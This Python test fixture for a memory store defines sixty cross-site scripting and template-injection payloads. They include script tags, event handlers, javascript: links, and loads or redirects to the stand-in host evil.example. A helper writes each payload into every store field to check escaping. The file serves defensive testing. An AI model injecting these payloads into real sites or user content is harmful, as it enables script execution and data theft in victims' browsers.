"""Sixty injection payloads, and a store with each of them in every field."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from moss_memory.store import Store

CALL = "alert(document.domain)"
ELSEWHERE = "http://evil.example"

PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"</svg><svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
    f"<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={CALL} src=1>'>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src={ELSEWHERE}/x.swf>",
    f"<base href={ELSEWHERE}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    f"<div style=background:url({ELSEWHERE}/x)>x</div>",
    f"<form action={ELSEWHERE}><button>Save</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<a href=javascript:{CALL}>click</a>",
    f"[click](javascript:{CALL})",
    f"[click](JaVaScRiPt:{CALL})",
    f"[click](  javascript:{CALL}  )",
    f"[click](data:text/html,<script>{CALL}</script>)",
    f"[click](vbscript:{CALL})",
    f"![x]({ELSEWHERE}/pixel.png)",
    f'![x](x"onerror="{CALL})',
    f'[x]({ELSEWHERE} "onmouseover={CALL}")',
    f"<{ELSEWHERE}/auto>",
    f"`<img src=x onerror={CALL}>`",
    f"# <img src=x onerror={CALL}>",
    f"| <script>{CALL}</script> | b |",
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"x onmouseover={CALL} y",
    f"{{{{ {CALL} }}}} {{% raw %}} ${{{CALL}}}",
    "{{ 7 * 7 }}{{ config.__class__ }}",
    f"<p hx-get={ELSEWHERE} hx-trigger=load>x</p>",
    f"<p data-hx-on:click={CALL} hx-on::load={CALL}>x</p>",
    f"<!--><script>{CALL}</script>-->",
    f"\u202e<script>{CALL}</script>\u2066",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"&lt;script&gt;{CALL}&lt;/script&gt;&#60;img src=x onerror={CALL}&#62;",
)
WORKSPACE = f'"><svg onload={CALL}>'
"""A workspace whose name is a payload too."""


def write_payloads(store: Store) -> dict[str, list[str]]:
    """Write every payload into every field of a store and return the ids of the new entries by family."""
    made: dict[str, list[str]] = {"capsules": [], "artifacts": [], "tasks": [], "entities": []}
    store.call("branchmind_init", {"workspace": WORKSPACE})
    ops: list[dict[str, Any]] = []
    for number, text in enumerate((*PAYLOADS, _all())):
        short = " ".join(text.split())[:200]
        made["capsules"].append(_capsule(store, number, text, short))
        made["artifacts"].append(_artifact(store, number, text, short))
        made["tasks"].append(_task(store, text, short))
        made["entities"].append(_record(store, number, text, short))
        note = {"workspace": WORKSPACE, "content": text, "title": short, "meta": {text: text}}
        store.call("branchmind_notes_commit", note)
        ops += _node(number, text, short)
    store.call("branchmind_graph_apply", {"workspace": WORKSPACE, "branch": "main", "ops": ops})
    _work(store, made["tasks"][-1])
    _conflict(store)
    return made


def _all() -> str:
    return "\n\n".join(PAYLOADS)


def _capsule(store: Store, number: int, text: str, short: str) -> str:
    labels = dict.fromkeys(("title", "source", "run_id", "phase", "role"), short)
    place = {"workspace": WORKSPACE, "name": f"{short} {number}", "tags": [short[:100]], "allow_thin": True}
    given = {**place, **labels, "capsule_text": f"## {short}\n\n{text}\n"}
    return str(store.call("capsule_store", given, actor=short)["id"])


def _artifact(store: Store, number: int, text: str, short: str) -> str:
    labels = {"run_id": short, "phase": short, "role": short, "tags": [short[:100]], "text": text}
    data = {short: {text: [text, {text: text}]}, "plain": text}
    place = {"workspace": WORKSPACE, "kind": short, "name": f"{short} {number}"}
    return str(store.call("artifact_store", {**place, **labels, "data": data})["id"])


def _task(store: Store, text: str, short: str) -> str:
    step = {"title": short, "success_criteria": [text], "tests": [text], "blockers": [short]}
    place = {"workspace": WORKSPACE, "kind": "task", "title": short, "description": text, "tags": [short[:100]]}
    return str(store.call("tasks_create", {**place, "steps": [step]})["id"])


def _work(store: Store, target: str) -> None:
    """Add evidence, notes and a claim with payloads to a task and to its step."""
    at = {"workspace": WORKSPACE, "target": target}
    for step in ({"path": "s:0"}, {}):
        evidence = {kind: list(PAYLOADS) for kind in ("links", "checks", "texts")}
        store.call("tasks_evidence", {**at, **step, **evidence})
        store.call("tasks_note", {**at, **step, "note": _all()})
    store.call("tasks_block", {**at, "path": "s:0", "reason": PAYLOADS[9]})
    store.call("tasks_claim", {**at, "agent": PAYLOADS[9]})


def _record(store: Store, number: int, text: str, short: str) -> str:
    times = {"created_at": "2026-01-01", "updated_at": "2026-01-02"}
    body: dict[str, Any] = {
        "id": f"{short} {number}",
        "description": text,
        "status": "planning",
        "dependencies": [short],
    }
    provenance = {"agent_id": short, "source_refs": [short], "extractor_version": short}
    sent = {"capability_id": "neotoma:store_feature_unit:v1", "body": body | times, "provenance": provenance}
    return str(store.call("submit_payload", {**sent, "workspace": WORKSPACE})["entity_id"])


def node_id(number: int) -> str:
    """Return the id of a node with a payload; -1 is the node with all payloads."""
    texts = (*PAYLOADS, _all())
    at = number % len(texts)
    return f"{at} " + " ".join(texts[at].split())[:200].replace("|", "/")


def _node(number: int, text: str, short: str) -> list[dict[str, Any]]:
    """Return the operations that write a node with a payload and a link to the first node."""
    plain = short.replace("|", "/")
    node = {
        "op": "node_upsert",
        "id": node_id(number),
        "type": plain[:100],
        "status": plain[:100],
        "tags": [short[:99]],
    }
    edge = {"op": "edge_upsert", "from": node["id"], "rel": plain[:100], "to": f"0 {PAYLOADS[0]}"}
    return [{**node, "title": short, "text": text, "meta": {text: text}}, edge]


def _conflict(store: Store) -> None:
    """Create a branch and a conflict with payloads as names and contents."""
    branch = "'\"><img-src=x-onerror=alert(1)>"
    place = {"workspace": WORKSPACE, "from": "main", "name": branch}
    store.call("branchmind_branch_create", place)
    for name, text in ((branch, PAYLOADS[1]), ("main", PAYLOADS[2])):
        node = {"op": "node_upsert", "id": f"0 {PAYLOADS[0]}", "type": "note", "title": text, "text": text}
        store.call("branchmind_graph_apply", {"workspace": WORKSPACE, "branch": name, "ops": [node]})
    store.call("branchmind_graph_merge", {"workspace": WORKSPACE, "from": branch, "into": "main"})
